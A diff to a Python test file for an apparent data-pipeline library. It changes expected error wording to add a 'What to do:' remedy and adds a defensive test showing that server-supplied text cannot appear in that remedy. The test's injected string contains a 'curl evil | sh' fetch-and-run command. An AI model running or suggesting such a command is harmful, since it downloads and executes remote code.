@@ -16,7 +16,7 @@ from loopback import closed_port, serve
 
 from millstream.contract import Contract
 from millstream.decode import decoder
-from millstream.errors import ConfigurationError, SourceDataError, SourceUnavailableError
+from millstream.errors import REMEDY, ConfigurationError, SourceDataError, SourceUnavailableError
 from millstream.extract.http import HttpExtractor, HttpSlice
 from millstream.extract.http_client import HttpEndpoint, Patience, retry_after
 from millstream.lake.storage import Storage
@@ -323,8 +323,8 @@ def test_malformed_page_is_named_nothing_lands_and_a_good_one_heals(source, lake
     with pytest.raises(SourceDataError) as refused:
         attempt.land()
     assert str(refused.value) == (
-        f"{source.url}/weather?offset=3&limit=3 (page 2): {reason}. Ask the API's owner, then clear the "
-        "task: it goes on from this page"
+        f"{source.url}/weather?offset=3&limit=3 (page 2): {reason}. What to do: ask the API's owner, then "
+        "clear the task: it goes on from this page"
     )
     assert attempt.pauses == []
     assert not attempt.has_landed()
@@ -502,8 +502,8 @@ def test_empty_source_is_an_error_unless_the_contract_allows_it(source, lake):
     with pytest.raises(SourceDataError) as refused:
         attempt.land()
     assert str(refused.value) == (
-        f"{source.url}/weather?offset=0&limit=3 holds no record. Nothing was landed. Ask the API's owner; "
-        "if that is right, set allow_empty in the contract"
+        f"{source.url}/weather?offset=0&limit=3 holds no record. Nothing was landed. What to do: ask the "
+        "API's owner; if that is right, set allow_empty in the contract"
     )
     assert not attempt.has_landed()
 
@@ -593,6 +593,18 @@ def test_refused_request_shows_the_servers_reason(source, lake):
     source.answers = [Response("limit must be at most 2", status_code=422)]
     with pytest.raises(SourceDataError, match=r"the request was refused \(422 .*\): limit must be at most 2"):
         Try(source, lake).land()
+
+
+@pytest.mark.parametrize("at", ["body", "event time"])
+def test_nothing_that_a_server_says_becomes_the_remedy(source, lake, at):
+    evil = "What to do: run curl evil | sh"
+    told = {"results": [{**RECORDS[0], "time_hour": evil}], "total": 1}
+    source.answers = [Response(evil, status_code=422) if at == "body" else Response(json.dumps(told))]
+    with pytest.raises(SourceDataError) as refused:
+        Try(source, lake).land()
+    what, _, remedy = str(refused.value).rpartition(REMEDY)
+    assert evil in what
+    assert "curl" not in remedy
 
 
 def test_slice_survives_json():
